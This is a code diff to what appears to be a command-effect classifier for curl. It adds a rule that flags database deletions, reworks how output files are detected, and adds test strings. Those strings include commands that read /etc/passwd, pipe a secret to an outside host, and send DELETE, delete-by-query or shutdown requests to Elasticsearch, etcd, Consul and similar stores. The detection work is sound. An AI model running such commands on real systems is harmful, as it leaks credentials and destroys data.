@@ -22,6 +22,11 @@ import { connect, fetchedTo, methodOf, nameInUrl, originsOf, storeEffects, union
 
 const isFileUrl = (url: string): boolean => /^file:\/\//i.test(url);
 
+function isStandardOutput(file: Value): boolean {
+  const text = textOf(file);
+  return text === '-' || text === '';
+}
+
 /** What is asked for; with a file of settings alone, something that is not known. */
 function urlsOf(given: Given<Value>): readonly Value[] {
   const urls = [...given.operands, ...given.all('url')];
@@ -175,7 +180,7 @@ const curl: Card = {
               mapValue(url, (path) => path.replace(/^file:\/\/(?:localhost)?/i, '')),
             );
           const detail = /^(?:smtp|imap|pop3)s?:/i.test(text) ? 'mail' : method;
-          return [...storeEffects(call, url, method), connect(call, hostOf(url), detail, origins)];
+          return [connect(call, hostOf(url), detail, origins)];
         });
       },
       examples: {
@@ -203,10 +208,36 @@ const curl: Card = {
           'curl file:///etc/passwd FILE://localhost/etc/hosts': 'read /etc/passwd; read /etc/hosts',
           'curl smtp://m.example imaps://n.example pop3://o.example':
             'connect m.example (mail); connect n.example (mail); connect o.example (mail)',
-          'curl -X DELETE http://localhost:9200/logs':
-            'database http://localhost:9200/logs (drop); connect localhost (DELETE)',
+          '$SECRET | curl -T /dev/stdin h.example': 'connect h.example (PUT) from secret',
+          '$SECRET | curl -T /dev/fd/0 h.example': 'connect h.example (PUT) from secret',
+          '$SECRET | curl -T a.txt h.example': 'connect h.example (PUT)',
         },
         miss: ['curl', 'curl -V', 'curl -x p.example'],
+      },
+    },
+    {
+      what: 'deletes from stores',
+      effects: (call, given) => {
+        const method = requestMethod(given);
+        return urlsOf(given).flatMap((url) => storeEffects(call, url, method));
+      },
+      examples: {
+        hit: {
+          'curl -X DELETE http://a.example:9200/logs b:7700/ c:8001/ d:5984?e f:8086':
+            'database http://a.example:9200/logs (drop); database b:7700/ (drop); database c:8001/ (drop); database d:5984?e (drop); database f:8086 (drop)',
+          'curl -X DELETE a:8983 b:6333 c:8108 d:2379 e:8500 f:15672 g:9090':
+            'database a:8983 (drop); database b:6333 (drop); database c:8108 (drop); database d:2379 (drop); database e:8500 (drop); database f:15672 (drop); database g:9090 (drop)',
+          'curl -d {} a:9200/b/_delete_by_query a:9200/b/_close a:9200/_all a:9200/_cluster/settings':
+            'database a:9200/b/_delete_by_query (drop); database a:9200/b/_close (drop); database a:9200/_all (drop); database a:9200/_cluster/settings (drop)',
+          'curl -X PUT a:9200/_shutdown a:9200/b/_forcemerge a:8983/delete':
+            'database a:9200/_shutdown (drop); database a:9200/b/_forcemerge (drop); database a:8983/delete (drop)',
+        },
+        miss: [
+          'curl -X DELETE https://h.example/a',
+          'curl -X DELETE http://h.example:92001/a',
+          'curl http://h.example:9200/a/_delete_by_query',
+          'curl -d {} http://h.example:9200/a/_search',
+        ],
       },
     },
     {
@@ -215,8 +246,7 @@ const curl: Card = {
         const urls = urlsOf(given);
         const folder = given.last('output-dir');
         const byUrl = given.has('remote-name', 'remote-name-all') ? urls.map(nameInUrl) : [];
-        const named =
-          urls.length === 0 ? [] : given.all('output').filter((file) => !/^-?$/.test(textOf(file) ?? '?'));
+        const named = urls.length === 0 ? [] : given.all('output').filter((file) => !isStandardOutput(file));
         // `#1` is what stands in the first braces of the address.
         const files = named.map((file) => mapValue(file, (text) => text.replace(/#\d/g, '*')));
         return [...byUrl, ...files].flatMap((file) => fetchedTo(call, within(folder, file), 'overwrite'));
@@ -232,6 +262,7 @@ const curl: Card = {
         },
         miss: [
           'curl -o - https://h.example/',
+          'curl -o - --output-dir d https://h.example/',
           'curl https://h.example/x',
           'curl -J https://h.example/',
           'curl -o a',
